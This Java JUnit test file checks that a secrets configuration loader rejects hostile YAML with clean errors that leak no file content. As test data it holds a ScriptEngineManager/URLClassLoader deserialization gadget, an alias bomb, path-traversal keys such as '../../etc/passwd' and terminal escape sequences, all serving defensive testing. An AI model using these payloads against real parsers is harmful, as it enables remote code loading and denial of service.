package dev.phalanx.secrets.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.phalanx.secrets.ConfigurationException;
import dev.phalanx.secrets.Problem;
import dev.phalanx.secrets.UnknownEnvironmentException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Malformed, hostile and oversized input: every case fails with a {@link ConfigurationException}
 * (never an Error) naming the file and, where there is one, the line, and no message repeats file
 * content other than names (each file carries a canary that must not appear).
 */
class HostileInputTest {

  private static final String CANARY = "CANARY-s3cr3t";

  @TempDir Path dir;
  ConfigTree tree;

  @BeforeEach
  void setUp() {
    tree = new ConfigTree(dir).environment("x", "app").app("app");
  }

  private Problem onlyProblem() {
    List<Problem> problems = PhalanxConfigTest.problems(() -> tree.open().environment("x"));
    assertThat(problems).hasSize(1);
    assertThat(problems.toString()).doesNotContain(CANARY);
    return problems.get(0);
  }

  private void assertProblem(String file, int line, String messagePart) {
    Problem problem = onlyProblem();
    assertThat(problem.location()).isNotNull();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(file));
    assertThat(problem.location().line()).isEqualTo(line);
    assertThat(problem.message()).contains(messagePart);
  }

  private static final String SECRETS = "applications/app/secrets.yaml";
  private static final String VALUES = "applications/app/values.yaml";
  private static final String ENV = "environments/values-x.yaml";

  @Test
  void unknownEnvironmentListsTheKnownOnes() {
    tree.environment("y");

    assertThatThrownBy(() -> tree.open().environment("nope"))
        .isInstanceOf(UnknownEnvironmentException.class)
        .hasMessage("unknown environment 'nope'; known environments: x, y");
  }

  @Test
  void missingChartOfAnEnabledApplication() {
    tree.environment("x", "app", "ghost").write("applications/ghost/values.yaml", "a: 1\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(ENV));
    assertThat(problem.location().line()).isEqualTo(4);
    assertThat(problem.subject()).isEqualTo("ghost");
    assertThat(problem.message()).contains("Chart.yaml does not exist");
  }

  @Test
  void missingDirectoryOfAnEnabledApplication() {
    tree.environment("x", "app", "ghost");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(ENV));
    assertThat(problem.message()).contains("applications/ghost/Chart.yaml does not exist");
  }

  @Test
  void yamlSyntaxErrorInASpecFile() {
    tree.secrets("app", "a:\n  description: d\n  value: \"" + CANARY + "\n  b: [\n");

    assertProblem(SECRETS, 5, "invalid YAML");
  }

  @Test
  void yamlSyntaxErrorInAnEnvironmentFile() {
    tree.write(ENV, "applications:\n  app: true\n fqdn: " + CANARY + "\n");

    assertProblem(ENV, 3, "invalid YAML");
  }

  @Test
  void wrongTypeOfAField() {
    tree.secrets("app", "a:\n  description: d\n  value:\n    - " + CANARY + "\n");

    assertProblem(SECRETS, 4, "value must be a string, not a list");
  }

  @Test
  void wrongTypeInTheEnvironment() {
    tree.write(ENV, "applications:\n  app: \"" + CANARY + "\"\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(ENV));
    assertThat(problem.location().line()).isEqualTo(2);
    assertThat(problem.subject()).isEqualTo("applications.app");
    assertThat(problem.message()).isEqualTo("must be true or false");
  }

  @Test
  void aSpecFileThatIsNotAMapping() {
    tree.secrets("app", "- " + CANARY + "\n");

    assertProblem(SECRETS, 1, "must be a mapping");
  }

  @Test
  void unknownField() {
    tree.secrets("app", "a:\n  description: d\n  valeu: " + CANARY + "\n");

    assertProblem(SECRETS, 3, "unknown field 'valeu'");
  }

  @Test
  void duplicateKeys() {
    tree.secrets("app", "a:\n  description: d\n  value: " + CANARY + "\n  value: other\n");

    assertProblem(SECRETS, 4, "duplicate key value");
  }

  @Test
  void duplicateTopLevelKeysInValues() {
    tree.values("app", "enabled: true\nother: " + CANARY + "\nenabled: false\n");

    assertProblem(VALUES, 3, "duplicate key enabled");
  }

  @Test
  void globalTagsAreRefused() {
    tree.values(
        "app",
        "exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
            + "[[!!java.net.URL [\"http://"
            + CANARY
            + ".example.com\"]]]]\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(VALUES));
    assertThat(problem.location().line()).isEqualTo(1);
    assertThat(problem.message()).contains("invalid YAML").contains("Global tag is not allowed");
  }

  @Test
  void globalTagsInASpecFileAreRefused() {
    tree.secrets("app", "a: !!java.io.File [\"/etc/" + CANARY + "\"]\n");

    assertProblem(SECRETS, 1, "Global tag is not allowed");
  }

  @Test
  void aliasBombIsRefusedBeforeExpansion() {
    StringBuilder bomb = new StringBuilder("a: &a [\"" + CANARY + "\"]\n");
    String previous = "a";
    for (char c = 'b'; c <= 'j'; c++) {
      bomb.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 10; i++) {
        bomb.append(i == 0 ? "" : ", ").append('*').append(previous);
      }
      bomb.append("]\n");
      previous = String.valueOf(c);
    }
    tree.values("app", bomb.toString());

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(VALUES));
    assertThat(problem.message()).contains("alias bomb");
  }

  @Test
  void tooManyNodesWithoutAliasesAreRefused() {
    // Under the byte limit, and no alias: the node count is still bounded.
    tree.values("app", "a: [" + "0,".repeat(1_100_000) + "0]\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(VALUES));
    assertThat(problem.message()).contains("the document has more than 1000000 nodes");
  }

  @Test
  void tooManyAliasesAreRefused() {
    StringBuilder yaml = new StringBuilder("a: &a [x]\nlist:\n");
    yaml.append("  - *a\n".repeat(1500));
    tree.values("app", yaml.toString());

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(VALUES));
    assertThat(problem.message()).contains("invalid YAML");
  }

  @Test
  void flowNestingAThousandDeep() {
    tree.values("app", "a: " + "[".repeat(1000) + CANARY + "]".repeat(1000) + "\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(VALUES));
    assertThat(problem.message()).contains("invalid YAML").containsIgnoringCase("nesting");
  }

  @Test
  void blockNestingAThousandDeepInASpecFile() {
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < 1000; i++) {
      yaml.append(" ".repeat(i)).append("k").append(i).append(":\n");
    }
    yaml.append(" ".repeat(1000)).append(CANARY).append("\n");
    tree.secrets("app", yaml.toString());

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(SECRETS));
    assertThat(problem.message()).contains("invalid YAML").containsIgnoringCase("nesting");
  }

  @Test
  void tenMegabyteFile() {
    tree.secrets("app", "a:\n  description: " + CANARY.repeat(10 * 1024 * 1024 / 13) + "\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve(SECRETS));
    assertThat(problem.message()).contains("the limit is");
  }

  @Test
  void copyAndGenerateBothUnconditional() {
    tree.secrets(
        "app",
        "a:\n  description: d\n  copy:\n    application: other\n    key: k\n"
            + "  generate:\n    type: password\n");

    assertProblem(SECRETS, 6, "copy and generate are both unconditional");
  }

  @Test
  void valueWithGenerate() {
    tree.secrets(
        "app", "a:\n  description: d\n  value: " + CANARY + "\n  generate:\n    type: password\n");

    assertProblem(SECRETS, 1, "value cannot be combined with an unconditional generate");
  }

  @Test
  void missingDescription() {
    tree.secrets("app", "\na:\n  value: " + CANARY + "\n");

    assertProblem(SECRETS, 2, "description is required");
  }

  @Test
  void sourceOnPassword() {
    tree.secrets(
        "app",
        "a:\n  description: d\n  generate:\n    type: password\n    source: b\n"
            + "b:\n  description: "
            + CANARY
            + "\n");

    assertProblem(SECRETS, 5, "generate.source is not allowed for type password");
  }

  @Test
  void applicationNameWithASlash() {
    tree.write(ENV, "applications:\n  \"../etc\": true\n  \"a/b\": true\n");

    List<Problem> problems = PhalanxConfigTest.problems(() -> tree.open().environment("x"));
    assertThat(problems).hasSize(2);
    assertThat(problems)
        .allSatisfy(p -> assertThat(p.location().file()).isEqualTo(dir.resolve(ENV)));
    assertThat(problems).extracting(p -> p.location().line()).containsExactly(2, 3);
    assertThat(problems.toString()).contains("'../etc'", "'a/b'").contains("must not contain");
  }

  @Test
  void applicationNameWithDotDot() {
    tree.write(ENV, "name: x\n")
        .write("environments/values.yaml", "applications:\n  \"..\": true\n");

    Problem problem = onlyProblem();
    assertThat(problem.location().file()).isEqualTo(dir.resolve("environments/values.yaml"));
    assertThat(problem.location().line()).isEqualTo(2);
    assertThat(problem.message()).contains("must not contain '..'");
  }

  @Test
  void applicationNameWithAControlCharacter() {
    tree.write(ENV, "applications:\n  \"app\\x1b[2J\": true\n");

    Problem problem = onlyProblem();
    assertThat(problem.location()).hasToString(dir.resolve(ENV) + ":2");
    assertThat(problem.message()).contains("'app\\u001b[2J'").contains("control characters");
    assertThat(problem.toString()).doesNotContain("\u001b");
  }

  @Test
  void copyApplicationWithASlash() {
    tree.secrets("app", "a:\n  copy:\n    application: ../" + CANARY + "\n    key: k\n");

    Problem problem = PhalanxConfigTest.problems(() -> tree.open().environment("x")).get(0);
    assertThat(problem.location().file()).isEqualTo(dir.resolve(SECRETS));
    assertThat(problem.location().line()).isEqualTo(3);
    assertThat(problem.message()).contains("copy.application").contains("must not contain '/'");
  }

  @Test
  void copyApplicationWithDotDot() {
    tree.secrets("app", "a:\n  copy:\n    application: a..b\n    key: k\n");

    Problem problem = PhalanxConfigTest.problems(() -> tree.open().environment("x")).get(0);
    assertThat(problem.location().line()).isEqualTo(3);
    assertThat(problem.message()).contains("copy.application").contains("'..'");
  }

  @Test
  void copyApplicationWithAControlCharacter() {
    tree.secrets("app", "a:\n  copy:\n    application: \"a\\tb\"\n    key: k\n");

    Problem problem = PhalanxConfigTest.problems(() -> tree.open().environment("x")).get(0);
    assertThat(problem.location().line()).isEqualTo(3);
    assertThat(problem.message()).contains("copy.application").contains("control characters");
  }

  @Test
  void secretKeyWithDotDot() {
    tree.secrets("app", "description: x\n\"../../etc/passwd\":\n  description: d\n");

    List<Problem> problems = PhalanxConfigTest.problems(() -> tree.open().environment("x"));
    assertThat(problems).extracting(p -> p.location().line()).containsExactly(1, 2);
    assertThat(problems.get(1).message()).contains("invalid secret key");
  }

  @Test
  void invalidUtf8() {
    tree.write(SECRETS, "");
    try {
      Files.write(dir.resolve(SECRETS), new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'});
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }

    // Issue 11 item 21: the line (and column) of the invalid sequence.
    assertProblem(SECRETS, 1, "not valid UTF-8");
    assertThat(onlyProblem().location().column()).isEqualTo(4);
  }

  @Test
  void exceptionsAreConfigurationExceptionsNotErrors() {
    tree.values("app", "a: " + "{x: ".repeat(5000) + "}".repeat(5000) + "\n");

    assertThatThrownBy(() -> tree.open().environment("x"))
        .isExactlyInstanceOf(ConfigurationException.class);
  }
}
